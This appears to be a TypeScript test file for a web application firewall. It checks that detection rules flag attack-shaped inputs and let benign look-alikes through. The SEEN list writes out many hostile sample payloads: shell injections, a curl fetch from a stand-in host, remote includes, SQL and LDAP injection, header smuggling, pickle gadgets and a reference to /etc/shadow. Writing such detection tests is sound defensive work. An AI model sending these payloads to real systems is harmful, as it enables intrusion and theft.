import assert from "node:assert/strict";
import { test } from "node:test";
import type { FieldSource } from "../../../src/waf/fields/field.ts";
import { wafOptions } from "../../../src/waf/options.ts";
import { createFirewall } from "../../../src/waf/waf.ts";
import { builtIn } from "./sets.ts";

type Place = "query" | "json" | "path" | "name" | "file";

const firewall = createFirewall({ judged: () => undefined }).open(wafOptions.parse({}), { acting: builtIn(), trial: null }).of("main", "r", []);

const HEAD: FieldSource = { path: "/api", query: "", headers: [], body: null, contentType: undefined };
const SENT: Readonly<Record<Place, (value: string) => FieldSource>> = {
  query: (value) => ({ ...HEAD, query: `?q=${encodeURIComponent(value)}` }),
  name: (value) => ({ ...HEAD, query: `?${encodeURIComponent(value)}=1` }),
  path: (value) => ({ ...HEAD, path: `/api/${encodeURIComponent(value).replaceAll("%2F", "/")}` }),
  json: (value) => ({ ...HEAD, body: Buffer.from(JSON.stringify({ note: value })), contentType: "application/json" }),
  file: (value) => ({ ...HEAD, headers: ["x-filename", value] }),
};

/** Rule, place, and a value that the rule sees there. */
const SEEN: readonly (readonly [string, Place, string])[] = [
  ["sql-dialect", "query", "handler stock open; handler stock read next"],
  ["ldap-escape", "query", "\\2a\\29\\28cn=\\2a"],
  ["ldap-escape", "query", "x)(cn=*"],
  ["shell-anywhere", "json", "box curl -s http://a.example/i"],
  ["shell-anywhere", "query", "$SHELL -c x"],
  ["shell-option", "query", "-oProxyCommand=x"],
  ["shell-option", "query", "--output=/etc/cron.d/x"],
  ["shell-alone", "query", "whoami"],
  ["shell-anywhere", "query", ";ps -ef|ps auxw"],
  ["shell-anywhere", "query", ";kill -9 -1"],
  ["shell-anywhere", "json", "box find /srv -name y"],
  ["shell-command", "query", "`echo 777`"],
  ["shell-command", "query", "$(echo 777)"],
  ["shell-expansion", "query", ";un$()ame"],
  ["code-prototype-name", "query", '{"a":{"constructor":{"prototype":{"b":1}}}}'],
  ["formula-program", "query", 'DDE("a";"b")'],
  ["nosql-operator", "query", '{"a":{"$func":"b"}}'],
  ["mail-command", "json", "x\r\nDATA\r\nSubject: y"],
  ["header-body", "query", "x\r\n\r\n<html>y"],
  ["sql-condition", "query", "7 or 3=3&x=4"],
  ["sql-query", "query", "7; insert into t--"],
  ["template-expression", "query", "%{(#a='b').(#c=@d@e)}"],
  ["shell-command", "query", "x|w"],
  ["traversal-file", "query", "/etc/hosts"],
  ["traversal-file", "json", "../../var/log/nginx/error.log"],
  ["shell-windows", "query", "for /f %x in (a) do b"],
  ["shell-windows", "query", "set /a x=5"],
  ["serialised-python", "json", "cposix\\nsystem\\n(S'x'"],
  ["serialised-other", "json", "/wEyxBEAAQAAAP////8BAAAA"],
  ["include-wrapper", "query", "data://text/plain;base64,AA"],
  ["include-remote", "query", "http://a.example/x.txt?"],
  ["include-remote", "query", "http://192.0.2.7/x.php"],
  ["log-forged", "json", "x\n2026-01-02 03:04:05 INFO all is well"],
  ["header-request", "query", "GET /x HTTP/1.1"],
  ["header-line", "path", "a\r\nset-cookie: b"],
  ["header-line", "name", "a\r\nremote-addr: b"],
  ["ssrf-bare-host", "query", "localhost:8080/x"],
  ["ssrf-scheme", "json", "see jar:http://a.example/b.jar!/c"],
  ["traversal-hidden", "path", "app/.git/x"],
  ["traversal-hidden", "path", "shop.sql.gz"],
  ["code-upload-header", "file", "photo. php"],
  ["code-call-path", "path", "alert(7)"],
  ["template-expression", "path", "{{8*8}}"],
  ["markup-handler", "path", "<x onclick=y>"],
  ["sql-condition", "path", "7' or '7'='7"],
  ["shell-command", "path", "x;cat /etc/motd"],
  ["traversal-file", "json", Buffer.from("/etc/shadow").toString("base64")],
];

/** Honest look-alikes, and where they stand. */
const HONEST: readonly (readonly [Place, string])[] = [
  ["query", "For /L drive (37 %)"], ["query", "Set /A grade = 5"], ["query", "uname"], ["name", "uname"], ["name", "whoami"], ["path", "whoami"],
  ["query", "https://a.example/x.txt"], ["query", "http://192.0.2.7/hook"], ["json", "localhost:8080/x"], ["query", "localhost"],
  ["json", "GET /x HTTP/1.1"], ["json", "(uid = 55) & (cn = China)"], ["path", "Alert(5)"], ["path", "Print('A5')"], ["path", ".well-known/x"],
  ["file", "photo.jpg"], ["json", "> ./test.sh -i all"], ["query", "x => {5}"], ["query", "Area rug 5' x 7' * Print; A4"],
  ["json", "leave it at the door; insert into frame"], ["query", "https://a.example/find?q=bolt 10 or 12&page=2#top"], ["json", "- see (1) or (2)\n> 2 pieces"],
  ["json", "run `npm install`, then `git status`"], ["json", "valve `/* red */` [x](https://a.example/?b=1)"], ["query", "h7(K{f(3,v"], ["query", "z%{\"u!q"], ["query", "9k@(w2'=?x"], ["query", "q8=j/i[=#v"], ["query", "mK#%,z; |w$Rt"],
  ["json", "`{set}` of 2"], ["json", "changed /etc/hosts entry on web01"], ["json", "restarted nginx, checked logs in /var/log/nginx/error.log"], ["json", '{"prototype":true}'],
  ["json", "mask\nINFO on page 5"], ["query", "count(*)"], ["query", "include $5 voucher"],
];

for (const [rule, place, value] of SEEN) {
  test(`${rule} sees ${JSON.stringify(value)} in a ${place}`, () => {
    const judgement = firewall?.judge(SENT[place](value), "id") ?? null;
    const rules = judgement?.findings.map((finding) => finding.rule) ?? [];
    assert.ok(rules.includes(rule), `it is seen by ${rules.join(", ")}`);
    assert.equal(judgement?.stops, true);
  });
}

test("nothing stops JSON in a cookie, as sites keep their consents", () => {
  const cookie = `consent=${encodeURIComponent('{"name":"neighbour\'s","size":">= 60 %"}')}`;
  assert.equal(firewall?.judge({ ...HEAD, headers: ["cookie", cookie] }, "id")?.stops ?? false, false);
});

for (const [place, value] of HONEST) {
  test(`nothing stops ${JSON.stringify(value)} in a ${place}`, () => {
    const judgement = firewall?.judge(SENT[place](value), "id") ?? null;
    assert.equal(judgement?.stops ?? false, false, `it is seen by ${judgement?.findings.map((finding) => finding.rule).join(", ") ?? "nothing"}`);
  });
}
